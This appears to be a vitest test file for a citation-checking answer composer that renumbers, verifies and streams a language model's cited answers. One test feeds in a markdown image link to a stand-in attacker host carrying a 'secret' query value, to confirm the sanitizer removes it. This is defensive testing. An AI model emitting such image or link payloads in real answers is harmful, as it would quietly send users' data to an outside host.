import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { findMarkers } from '../../server/src/answer/citation-marker.ts';
import { openLocalEmbedder } from '../../server/src/models/local-embedder.ts';
import type { ChatModel, Embedder } from '../../server/src/models/types.ts';
import { startScriptedServer, streamed, type ScriptedServer } from '../models/scripted-server.ts';
import { compose, COPY, MODELS_DIR, PASSAGES, scriptedChat, type Composed } from './model-fixture.ts';

let server: ScriptedServer;
let embedder: Embedder;
let chat: ChatModel;

beforeAll(async () => {
  server = await startScriptedServer();
  embedder = await openLocalEmbedder(MODELS_DIR);
  chat = await scriptedChat(server.baseUrl);
});

afterAll(async () => {
  await embedder.close();
  await server.close();
});

async function answering(text: string, size?: number): Promise<Composed> {
  server.script(streamed(text, size));
  return compose({ chat, embedder });
}

const SHALLOW =
  'A shallow copy creates a new object, but it inserts references to the child objects found in the original';
const DEEP = 'A deep copy recursively copies the object and all its children';

describe('composeWithModel', () => {
  test('numbers citations in order of appearance and cites the exact sentence', async () => {
    const { answer, announced } = await answering(
      `Threads do not speed up CPU-bound work【2】. ${SHALLOW}【1】. ${DEEP}【1】.`,
    );
    expect(answer.outcome).toBe('complete');
    expect(answer.text).toBe(`Threads do not speed up CPU-bound work【1】. ${SHALLOW}【2】. ${DEEP}【3】.`);
    expect(answer.citations).toEqual(announced);
    expect(answer.citations.map(({ number, entryId, quote }) => [number, entryId, quote])).toEqual([
      [1, 'sample#2', 'Threads therefore do not speed up CPU-bound work.'],
      [2, 'sample#1', `${SHALLOW}.`],
      [3, 'sample#1', `${DEEP}.`],
    ]);
    for (const { start, end, quote } of answer.citations.slice(1)) expect(COPY.slice(start, end)).toBe(quote);
    expect(answer.verdicts.map(({ verdict }) => verdict)).toEqual(['supported', 'supported', 'supported']);
  });

  test('gives a span that is cited twice one number', async () => {
    const { answer } = await answering(`${DEEP}【1】. So ${DEEP.toLowerCase()}【1】.`);
    expect(answer.citations).toHaveLength(1);
    expect(findMarkers(answer.text).map(({ numbers }) => numbers)).toEqual([[1], [1]]);
  });

  test.each([1, 3, 7, 1000])('streams the same text in pieces of %i characters', async (size) => {
    const text = `<think>Let me see 【1】</think>\n${SHALLOW} 【1】. Keep \`x[0]【1】\` as it is【2】.\n\n- ${DEEP}【1, 9】`;
    const { answer, deltas } = await answering(text, size);
    expect(deltas.join('')).toBe(answer.text);
    expect(answer.text).toBe(`${SHALLOW} 【1】. Keep \`x[0]【1】\` as it is.\n\n- ${DEEP}【2】`);
  });

  test('drops markers of passages that do not exist, and of those that do not support the sentence', async () => {
    const { answer } = await answering(`${DEEP}【7】. Generators are lazy【1】. ${SHALLOW}【1】.`);
    expect(answer.text).toBe(`${DEEP}. Generators are lazy. ${SHALLOW}【1】.`);
    expect(answer.rejected).toBe(2);
    expect(answer.verdicts.map(({ verdict }) => verdict)).toEqual(['partial', 'unsupported', 'supported']);
  });

  test('does not support a claim that turns the source round', async () => {
    const { answer } = await answering(`Threads speed up CPU-bound work【2】. ${DEEP}【1】.`);
    expect(answer.text).toBe(`Threads speed up CPU-bound work. ${DEEP}【1】.`);
    expect(answer.verdicts[0]).toMatchObject({ verdict: 'unsupported', citations: [] });
  });

  test('keeps code exactly as the model sent it and supports it where it is the source’s', async () => {
    const code = "```python\nimport copy\nbase = {'lr': [0.1, 0.2]}\nother = copy.deepcopy(base)\n```";
    const { answer } = await answering(`${DEEP}【1】:\n\n${code}\n【1】`);
    expect(answer.text).toContain(code);
    expect(answer.verdicts.map(({ verdict }) => verdict)).toEqual(['supported', 'supported']);
    expect(answer.citations[1]?.quote).toBe(code);
  });

  test('turns images into links and takes addresses out, but not of code', async () => {
    const { answer } = await answering(
      `${DEEP}【1】. ![x](https://evil.example/?q=secret) See https://evil.example/a. Code: \`https://a.example\``,
    );
    expect(answer.text).not.toContain('evil.example');
    expect(answer.text).not.toContain('![');
    expect(answer.text).toContain('`https://a.example`');
  });

  test('shows the model its rules, the passages between marks and the question', async () => {
    await answering(`${DEEP}【1】.`);
    const { system, user } = server.requests.at(-1)!;
    const mark = /--- ([0-9a-f]{12}) passage 1:/u.exec(user)?.[1];
    expect(mark).toBeDefined();
    expect(system).toContain('Allowed numbers: 1, 2.');
    expect(system).toContain(String(mark));
    for (const { markdown } of PASSAGES) expect(user).toContain(markdown);
    expect(user).toContain('Question: How do shallow and deep copies differ?');
  });

  test('uses another mark for every request', async () => {
    await answering(`${DEEP}【1】.`);
    const first = /--- ([0-9a-f]{12}) /u.exec(server.requests.at(-1)!.user)?.[1];
    await answering(`${DEEP}【1】.`);
    expect(/--- ([0-9a-f]{12}) /u.exec(server.requests.at(-1)!.user)?.[1]).not.toBe(first);
  });

  test('aborts the request upstream at once when the reader stops', async () => {
    const controller = new AbortController();
    server.script(async (_, reply) => {
      reply.text(`${DEEP}【1】. `);
      await reply.wait(30_000);
    });
    const slow = await scriptedChat(server.baseUrl, { idleMs: 30_000, totalMs: 30_000 });
    const composing = compose({ chat: slow, embedder, signal: controller.signal });
    await expect.poll(() => server.open()).toBe(1);
    const stopped = performance.now();
    controller.abort();
    await expect(composing).rejects.toMatchObject({ code: 'aborted' });
    await expect.poll(() => server.open()).toBe(0);
    // A few ms; the model would have gone on for half a minute.
    expect(Number(server.abandonedAt()) - stopped).toBeLessThan(5_000);
  });
});
